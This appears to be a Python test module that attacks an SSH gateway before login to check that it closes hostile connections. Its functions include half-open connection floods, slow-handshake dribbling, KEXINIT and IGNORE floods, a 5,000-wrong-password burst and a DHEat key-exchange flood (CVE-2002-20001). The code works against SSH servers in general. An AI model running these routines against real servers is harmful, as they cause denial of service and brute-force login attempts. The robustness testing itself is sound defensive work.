"""Attacks of a client that has not logged in. Each takes (port, user, key) and returns what came of
it; it raises where the gateway neither answers nor closes in time."""

import os
import struct
import threading
import time

from ssh_wire import (
    IDENTIFICATION, KEX_INIT, Client, Closed, kexinit, packet, string,
)

# The suite's gateway ends logins after 8 seconds; a loaded machine may take longer to say so.
GRACE = 40


def read_to_end(client):
    """Until the server hangs up; fails when it does not."""
    client.socket.settimeout(GRACE)
    try:
        while client.socket.recv(65536):
            pass
    except ConnectionResetError:
        pass
    client.close()


def half_open(port, user, key):
    """2,000 connections that never say a word, until the server ends them."""
    clients = [Client(port) for _ in range(2000)]
    Client(port, timeout=GRACE).login(user, key).close()
    for client in clients:
        read_to_end(client)
    return f"{len(clients)} closed"


def crowd(port, user, key):
    """The same from one address; another address still gets in."""
    clients = [Client(port) for _ in range(2000)]
    Client(port, source="127.0.0.2", timeout=GRACE).login(user, key).close()
    for client in clients:
        read_to_end(client)
    return f"{len(clients)} closed, a login from elsewhere came through"


def dribble(client, content):
    """Sends byte for byte until the server has had enough."""
    end = time.monotonic() + GRACE
    client.socket.settimeout(0.2)
    for byte in content:
        try:
            client.socket.sendall(bytes([byte]))
            while client.socket.recv(65536):
                pass
            return "closed"
        except (BrokenPipeError, ConnectionResetError):
            return "closed"
        except TimeoutError:
            pass
        if time.monotonic() > end:
            raise TimeoutError("a slow client was left alone")
    raise TimeoutError("a slow client came through")


def slow_identification(port, user, key):
    return dribble(Client(port), b"SSH-2.0-" + b"x" * 240)


def slow_kexinit(port, user, key):
    client = Client(port)
    client.identify()
    return dribble(client, packet(kexinit()))


def slow_login(port, user, key):
    client = Client(port)
    client.identify()
    client.exchange()
    return dribble(client, client.sealed(b"\x05" + string(b"ssh-userauth")) * 10)


def kexinit_flood(port, user, key):
    """A second KEXINIT while the first is under way."""
    client = Client(port)
    client.identify()
    try:
        client.send(*[kexinit()] * 1000)
    except Closed:
        pass
    read_to_end(client)
    return "closed"


def ignore_flood(port, user, key):
    """IGNORE, before there are keys, without an end."""
    client = Client(port)
    client.identify()
    client.socket.settimeout(GRACE)
    flood = packet(b"\x02" + string(bytes(30_000))) * 10
    sent, end = 0, time.monotonic() + GRACE
    while time.monotonic() < end:
        try:
            client.send_raw(flood)
        except (Closed, OSError):
            return f"closed after {sent >> 20} MiB"
        sent += len(flood)
    raise TimeoutError("the flood was never ended")


def authentication_flood(port, user, key):
    """Wrong passwords, all sent at once."""
    client = Client(port)
    client.identify()
    client.exchange()
    client.send(b"\x05" + string(b"ssh-userauth"))
    attempt = b"\x32" + string(user.encode()) + string(b"ssh-connection")
    attempt += string(b"password") + b"\0" + string(b"wrong")
    failures = 0
    try:
        client.send(*[attempt] * 5000)
        while True:
            failures += client.recv()[0] == 51
    except Closed as closed:
        return f"closed ({closed.reason}) after {failures} answers"


def method_probes(port, user, key):
    """Asks for the methods again and again without reading an answer."""
    client = Client(port, receive_buffer=4096)
    client.identify()
    client.exchange()
    client.send(b"\x05" + string(b"ssh-userauth"))
    attempt = b"\x32" + string(user.encode()) + string(b"ssh-connection") + string(b"none")
    try:
        client.socket.settimeout(5)
        for _ in range(200):
            client.send(*[attempt] * 200)
        read_to_end(client)
        return "closed"
    except Closed:
        return "closed"
    except TimeoutError:
        read_to_end(client)
        return "not read any more, then closed"


def key_exchanges(port, seconds, threads=4, method=b"curve25519-sha256"):
    """How many key exchanges the server was made to compute (CVE-2002-20001), and how many
    connections it did not let so far."""
    answered, refused = [0] * threads, [0] * threads
    own = kexinit()
    value = packet(bytes([KEX_INIT]) + string(b"\x09" + bytes(31)))
    end = time.monotonic() + seconds

    def run(index):
        while time.monotonic() < end:
            try:
                client = Client(port, timeout=GRACE)
                client.send_raw(IDENTIFICATION + b"\r\n" + packet(own) + value)
                client.identify()
                client.awaited(31)
                answered[index] += 1
                client.close()
            except (Closed, OSError):
                refused[index] += 1

    runners = [threading.Thread(target=run, args=[index]) for index in range(threads)]
    for runner in runners:
        runner.start()
    for runner in runners:
        runner.join()
    return sum(answered), sum(refused)


def dheat(port, user, key):
    """Key exchanges that nobody finishes, from where no limits hold."""
    answered, refused = key_exchanges(port, 5)
    return f"{answered} computed, {refused} refused in 5 s"


def login_meanwhile(port, user, key):
    """No attack of its own: logins while another program attacks."""
    for _ in range(10):
        Client(port, timeout=GRACE).login(user, key).close()
        time.sleep(0.3)
    return "10 logins"


def random_bytes(port, user, key):
    """Garbage in place of packets, encrypted and not."""
    for position in range(200):
        client = Client(port)
        client.identify()
        if position % 4 == 0:
            client.exchange()
        try:
            client.send_raw(os.urandom(40_000))
        except Closed:
            pass
        try:
            client.socket.shutdown(1)
        except OSError:
            pass
        read_to_end(client)
    return "200 closed"


def lengths(port, user, key):
    """Packet lengths from 0 to 2^32 - 1."""
    for length in [0, 1, 2, 3, 4, 11, 35_001, 262_145, 2**31, 2**32 - 1]:
        for encrypted in [False, True]:
            client = Client(port)
            client.identify()
            if encrypted:
                client.exchange()
            try:
                client.send_raw(struct.pack(">I", length) + bytes(64))
            except Closed:
                pass
            read_to_end(client)
    return "all closed"


attacks = {
    name.replace("_", "-"): globals()[name]
    for name in [
        "half_open", "crowd", "slow_identification", "slow_kexinit", "slow_login", "kexinit_flood",
        "ignore_flood", "authentication_flood", "method_probes", "dheat", "login_meanwhile",
        "random_bytes", "lengths",
    ]
}
